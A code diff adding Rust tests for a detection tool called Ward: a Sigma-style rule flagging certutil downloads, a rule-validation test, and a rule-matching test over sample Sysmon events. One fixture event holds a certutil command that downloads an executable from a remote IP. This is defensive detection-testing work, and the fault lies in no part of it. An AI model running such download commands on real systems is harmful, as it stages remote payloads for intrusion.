@@ -801,3 +801,75 @@ fn gzipped_logs_are_read_as_they_are() {
     assert!(stored > 29_900, "{summary}");
     assert_eq!(summary["quarantined"], 0, "{summary}");
 }
+
+const RULE_CERTUTIL: &str = r#"title: Certutil download
+id: 11111111-2222-3333-4444-555555555555
+status: test
+level: high
+author: Ward tests
+tags:
+  - attack.command-and-control
+  - attack.t1105
+logsource:
+  product: windows
+  category: process_creation
+detection:
+  selection:
+    Image|endswith: '\certutil.exe'
+    CommandLine|contains|all:
+      - 'urlcache'
+      - 'http'
+  condition: selection
+"#;
+
+#[test]
+fn rules_validate_names_each_rule_that_does_not_load_and_exits_1() {
+    let ward = Ward::new();
+    let dir = ward.dir.path().join("rules");
+    std::fs::create_dir_all(dir.join("sub")).unwrap();
+    std::fs::write(dir.join("good.yml"), RULE_CERTUTIL).unwrap();
+    std::fs::write(
+        dir.join("sub/bad.yml"),
+        RULE_CERTUTIL.replace("Image|endswith", "Image|expand"),
+    )
+    .unwrap();
+    let out = ward.run(&["rules", "validate", dir.to_str().unwrap()]);
+    assert_eq!(out.status.code(), Some(1));
+    let text = format!(
+        "{}{}",
+        String::from_utf8_lossy(&out.stdout),
+        String::from_utf8_lossy(&out.stderr)
+    );
+    assert!(
+        text.contains("bad.yml") && text.contains("expand"),
+        "{text}"
+    );
+    assert!(text.contains("1 loaded"), "{text}");
+    std::fs::remove_file(dir.join("sub/bad.yml")).unwrap();
+    assert!(
+        ward.run(&["rules", "validate", dir.to_str().unwrap()])
+            .status
+            .success()
+    );
+}
+
+#[test]
+fn rules_test_shows_which_events_of_a_file_match_and_why() {
+    let ward = Ward::new();
+    let rule = ward.file("rule.yml", RULE_CERTUTIL.as_bytes());
+    let events = ward.file(
+        "events.ndjson",
+        br#"{"EventID":1,"Channel":"Microsoft-Windows-Sysmon/Operational","Hostname":"ws1","TimeCreated":"2026-11-02T10:00:00Z","Image":"C:\\Windows\\System32\\certutil.exe","CommandLine":"certutil -urlcache -f http://203.0.113.5/a.exe a.exe"}
+{"EventID":1,"Channel":"Microsoft-Windows-Sysmon/Operational","Hostname":"ws1","TimeCreated":"2026-11-02T10:01:00Z","Image":"C:\\Windows\\System32\\certutil.exe","CommandLine":"certutil -hashfile a.exe"}
+"#,
+    );
+    let out = ward.ok(&[
+        "rules",
+        "test",
+        rule.to_str().unwrap(),
+        events.to_str().unwrap(),
+    ]);
+    assert!(out.contains("1 of 2 events match"), "{out}");
+    assert!(out.contains("matched by selection"), "{out}");
+    assert!(out.contains("author: Ward tests"), "{out}");
+}
